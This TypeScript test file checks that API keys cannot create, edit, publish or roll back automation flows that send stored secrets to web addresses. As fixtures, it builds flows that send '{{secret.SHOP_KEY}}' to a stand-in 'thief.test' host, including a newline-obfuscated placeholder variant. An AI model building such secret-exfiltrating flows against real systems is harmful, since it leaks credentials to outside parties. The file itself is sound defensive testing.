import request from 'supertest';
import { type LoggedIn, type RegisteredCompany, registerCompany } from '../../../../test/builders/accounts.js';
import { aGraph, FlowsClient } from '../../../../test/builders/flows.js';
import { startTestApp, type TestApp } from '../../../../test/support/test-app.js';
import type { FlowGraph } from '../flow-core/index.js';

const PERMISSIONS = [
  ...['flows:manage', 'flows:read', 'conversations:read', 'conversations:write', 'messages:send', 'contacts:read'],
  ...['contacts:write', 'pets:read', 'booking:read', 'booking:write'],
];

describe('secrets in flows', () => {
  let app: TestApp;
  let owner: RegisteredCompany;
  let people: FlowsClient;
  let program: FlowsClient;

  beforeAll(async () => {
    app = await startTestApp();
    owner = await registerCompany(app);
    people = new FlowsClient(app, owner);
    program = new FlowsClient(app, await aKey(PERMISSIONS));
    await request(app.url).put('/api/v1/secrets/SHOP_KEY').set(owner.auth).send({ value: 'quiet' }).expect(200);
  });
  afterAll(() => app.close());

  const makeKey = (permissions: readonly string[]): request.Test =>
    request(app.url).post('/api/v1/api-keys').set(owner.auth).send({ name: 'Program', permissions });
  const aKey = async (permissions: readonly string[]): Promise<Pick<LoggedIn, 'auth'>> => {
    const { body } = await makeKey(permissions).expect(201);
    return { auth: { authorization: `Bearer ${body.key}` } };
  };
  const draftOf = async (_id: string, graph: FlowGraph): Promise<object> => ({
    graph,
    draft_rev: (await people.read(_id)).draft_rev,
  });

  it('are sent only where a person wants it: a program may not add, move or publish them', async () => {
    const stolen = calling('https://thief.test/', '{{secret.SHOP_KEY}}');
    const { body } = await program.post('', { name: 'Steals', graph: stolen }).expect(403);
    expect(body.message).toContain('secret');
    // A line break is a space in a placeholder, too.
    const hidden = calling('https://thief.test/', '{{\nsecret.SHOP_KEY}}');
    await program.post('', { name: 'Steals', graph: hidden }).expect(403);
    const file = { format: 'petbuddy.flow', format_version: 1, channel_ids: [], scenarios: [], references: [] };
    await program.post('/import', { flow: { ...file, secrets: [], name: 'File', graph: stolen } }).expect(403);

    const { _id } = await people.live({ graph: calling('https://shop.test/', '{{secret.SHOP_KEY}}') });
    await program.patch(`/${_id}`, await draftOf(_id, stolen)).expect(403);
    const renamed = calling('https://shop.test/', '{{secret.SHOP_KEY}}', 'Good day');
    await program.patch(`/${_id}`, await draftOf(_id, renamed)).expect(200);
    await program.post(`/${_id}/publish`).expect(403);
    await people.post(`/${_id}/publish`).expect(200);
    await program.post(`/${_id}/rollback`, { number: 1 }).expect(403);
    await people.post(`/${_id}/rollback`, { number: 1 }).expect(200);
  });

  it('do not concern a flow without them', async () => {
    const { _id } = await program.live({ graph: calling('https://shop.test/', 'plain') });
    await program.post(`/${_id}/rollback`, { number: 1 }).expect(200);
  });

  it('a program may manage flows only if it may do by itself what flows do', async () => {
    await makeKey(PERMISSIONS).expect(201);
    for (const missing of PERMISSIONS.filter((one) => !one.startsWith('flows:'))) {
      const { body } = await makeKey(PERMISSIONS.filter((one) => one !== missing)).expect(400);
      expect(body.details[0].message).toContain(`must include ${missing},`);
    }
  });
});

/** A flow whose step sends the header to the address. */
function calling(url: string, header: string, text?: string): FlowGraph {
  const { nodes, edges } = aGraph(text);
  const data = { action: 'api_call', method: 'GET', url, headers: { 'x-key': header } } as const;
  return {
    nodes: [...nodes, { id: 'call', type: 'action', position: { x: 0, y: 300 }, data }],
    edges: [
      ...edges.filter(({ id }) => id === 'e1'),
      { id: 'e3', source: 'hello', source_handle: 'next', target: 'call' },
      { id: 'e4', source: 'call', source_handle: 'ok', target: 'end' },
      { id: 'e5', source: 'call', source_handle: 'error', target: 'end' },
    ],
  };
}
